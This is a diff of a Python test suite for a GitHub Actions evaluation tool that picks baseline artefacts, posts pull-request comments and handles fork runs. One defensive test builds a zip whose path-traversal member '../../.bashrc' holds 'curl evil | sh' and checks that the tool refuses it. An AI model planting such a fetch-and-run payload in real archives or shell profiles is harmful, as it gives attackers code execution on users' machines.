@@ -102,7 +102,7 @@ def base_artefact(checkout, tmp_path_factory) -> bytes:
     env = {**clean_environ(), "GITHUB_SHA": BASE, "GITHUB_REF": "refs/heads/main"}
     done = subprocess.run(
         [sys.executable, "-m", "ci_eval", "run", "--out", str(out), "--quiet"],
-        cwd=checkout, env=env, capture_output=True, text=True, timeout=120,
+        cwd=checkout, env=env, capture_output=True, text=True, timeout=120, check=False,
     )
     assert done.returncode == 0, done.stderr
     return out.read_bytes()
@@ -220,7 +220,7 @@ def run_action(gh: GitHubStandIn, tmp_path: Path, cwd: Path, event_name: str,
     for name, value in inputs.items():
         env["INPUT_" + name.upper().replace("_", "-")] = value
     done = subprocess.run([sys.executable, "-m", "ci_eval", "action"], cwd=cwd, env=env,
-                          capture_output=True, text=True, timeout=120)
+                          capture_output=True, text=True, timeout=120, check=False)
     token = env["INPUT_GITHUB-TOKEN"]
     # The token reaches the log once, in the line that tells the runner to mask it.
     assert [line for line in done.stdout.splitlines() if token in line] in (
@@ -391,17 +391,26 @@ def test_expired_and_vanished_artefacts_are_skipped(gh, checkout, tmp_path, base
         f"so the newest push run on main is used instead: {OLDER[:7]}, 3 days old ")
 
 
-def test_a_hostile_baseline_zip_is_skipped_with_a_warning(gh, checkout, tmp_path, base_artefact,
-                                                          base_zip):
+def test_hostile_and_oversized_baselines_are_skipped_with_a_warning(gh, checkout, tmp_path,
+                                                                   base_artefact, base_zip):
     hostile = build_zip({"ci-eval-run.json": base_artefact, "../../.bashrc": b"curl evil | sh"})
-    exact, _ = add_push_run(gh, BASE, hostile, TWO_HOURS)
-    older, _ = add_push_run(gh, OLDER, base_zip, THREE_DAYS)
+    exact, bad = add_push_run(gh, BASE, hostile, TWO_HOURS)
+    newer, huge = add_push_run(gh, NEWER, base_zip, timedelta(days=1))
+    gh.state.artifacts[huge]["size"] = 30 * 1024 * 1024  # as listed: not worth downloading
+    _, good = add_push_run(gh, OLDER, base_zip, THREE_DAYS)
 
     job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
 
     assert job.code == 0, job.stderr
-    assert f"warning: skipping the baseline from run {exact}" in job.stderr
-    assert "path-traversal member name '../../.bashrc'" in job.stderr
+    warnings = [line for line in job.stderr.splitlines() if "warning" in line]
+    assert warnings == [
+        (f"ci-eval: warning: skipping the baseline from run {exact}: artifact ci-eval (id {bad})"
+         f" of run {exact}: refusing a zip with a path-traversal member name '../../.bashrc'"),
+        (f"ci-eval: warning: skipping the baseline from run {newer}: artifact ci-eval (id {huge})"
+         f" of run {newer}: the zip is 31457280 bytes, over the 20971520-byte limit"),
+    ]
+    downloads = [path for _, path in calls(gh) if path.endswith("/zip")]
+    assert downloads == [f"/actions/artifacts/{bad}/zip", f"/actions/artifacts/{good}/zip"]
     assert baseline_line(bodies(gh)[0]).startswith(
         f"**Baseline:** fallback: base commit {BASE[:7]} has no run with an unexpired artefact, "
         f"so the newest push run on main is used instead: {OLDER[:7]}")
@@ -423,7 +432,7 @@ def test_a_forks_run_on_a_branch_named_like_the_base_is_never_used(gh, checkout,
 
 
 def test_only_a_forks_run_means_no_baseline_and_says_so(gh, checkout, tmp_path, base_zip):
-    fork_run, _ = add_push_run(gh, BASE, base_zip, timedelta(hours=1), head_repo=FORK)
+    add_push_run(gh, BASE, base_zip, timedelta(hours=1), head_repo=FORK)
 
     job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
 
@@ -612,13 +621,13 @@ def test_github_failing_for_good_is_exit_5_with_one_line(gh, checkout, tmp_path)
     assert job.code == 5
     assert len(gh.calls("actions/list-workflow-runs")) == 5  # the first try and 4 retries
     errors = [line for line in job.stderr.splitlines() if "error" in line]
-    assert errors == ["ci-eval: error: GitHub kept failing while listing runs of workflow "
-                      "ci-eval.yml (HTTP 503) after 5 attempts"]
+    assert errors == [("ci-eval: error: GitHub kept failing while listing runs of workflow "
+                       "ci-eval.yml (HTTP 503) after 5 attempts")]
 
 
 def test_pagination_finds_the_base_run_and_our_comment_on_later_pages(gh, checkout, tmp_path,
                                                                       base_zip):
-    exact, artifact = add_push_run(gh, BASE, base_zip, THREE_DAYS)
+    _, artifact = add_push_run(gh, BASE, base_zip, THREE_DAYS)
     for i in range(130):  # main moved on 130 times since the PR branched off
         add_push_run(gh, fake_sha(f"main-{i}"), None, timedelta(minutes=i))
     for i in range(120):
@@ -689,8 +698,8 @@ def test_stale_gold_ids_are_annotated_on_their_gold_set_lines(gh, checkout, tmp_
 
     assert job.code == 0, job.stderr
     assert job.annotations() == [
-        f"::warning file=eval/gold.json,line={line_of(GOLD, 'q2')},title=ci-eval%3A q2::"
-        "stale gold id(s) not in the current index: retired"]
+        (f"::warning file=eval/gold.json,line={line_of(GOLD, 'q2')},title=ci-eval%3A q2::"
+         "stale gold id(s) not in the current index: retired")]
 
 
 # -- fork pull requests and the workflow_run poster ----------------------------------------
@@ -791,21 +800,27 @@ def test_the_poster_renders_again_and_posts_nothing_the_fork_wrote_itself(gh, fo
 
 
 def test_the_poster_refuses_when_the_pull_request_moved_on(gh, fork_job, tmp_path):
-    run_id, _ = _fork_pr_run(gh, fork_job.job.bundle_zip(), pr_head=fake_sha("a newer fork commit"))
+    moved_on = fake_sha("a newer fork commit")
+    run_id, artifact = _fork_pr_run(gh, fork_job.job.bundle_zip(), pr_head=moved_on)
 
     job = run_action(gh, tmp_path, tmp_path, "workflow_run", workflow_run_event(run_id),
                      sha=BASE, ref="refs/heads/main", mode="comment")
 
     assert job.code == 2
-    assert ("GET", f"/pulls/{FORK_PR}") in calls(gh)
-    assert [c for c in calls(gh) if c[0] != "GET"] == []
+    assert calls(gh) == [
+        ("GET", f"/actions/runs/{run_id}"),
+        ("GET", f"/actions/runs/{run_id}/artifacts"),
+        ("GET", f"/actions/artifacts/{artifact}/zip"),
+        ("GET", f"/pulls/{FORK_PR}"),
+    ]
     assert bodies(gh, FORK_PR) == []
     assert job.stderr.strip().splitlines() == [
-        f"ci-eval: posting the comment of the pull request run that triggered this workflow",
-        f"ci-eval: error: artifact ci-eval (id {gh.calls('actions/download-artifact')[0].path.split('/')[-2]}) "
-        f"of run {run_id}:pr.json: pull request #{FORK_PR} is at {fake_sha('a newer fork commit')[:7]}, "
-        f"but the run built {FORK_HEAD[:7]}: refusing to post another commit's results",
+        "ci-eval: posting the comment of the pull request run that triggered this workflow",
+        (f"ci-eval: error: artifact ci-eval (id {artifact}) of run {run_id}:pr.json: pull request "
+         f"#{FORK_PR} is at {moved_on[:7]}, but the run built {FORK_HEAD[:7]}: refusing to post "
+         "another commit's results"),
     ]
+    assert job.outputs == {}
 
 
 # -- inputs and the log ---------------------------------------------------------------------
@@ -840,8 +855,8 @@ def test_a_missing_event_payload_is_exit_2_with_one_line(gh, checkout, tmp_path)
 
     assert job.code == 2
     assert job.stderr.splitlines() == [
-        "ci-eval: error: GITHUB_EVENT_PATH: is not set: ci-eval action runs inside a GitHub "
-        "Actions job"]
+        ("ci-eval: error: GITHUB_EVENT_PATH: is not set: ci-eval action runs inside a GitHub "
+         "Actions job")]
     assert gh.requests == [] and job.outputs == {}
 
 
@@ -850,6 +865,6 @@ def test_pull_request_target_is_refused(gh, checkout, tmp_path):
 
     assert job.code == 2
     assert job.stderr.splitlines() == [
-        "ci-eval: error: GITHUB_EVENT_NAME: pull_request_target is refused: use pull_request "
-        "plus a workflow_run poster"]
+        ("ci-eval: error: GITHUB_EVENT_NAME: pull_request_target is refused: use pull_request "
+         "plus a workflow_run poster")]
     assert gh.requests == [] and not job.bundle.exists() and job.outputs == {}
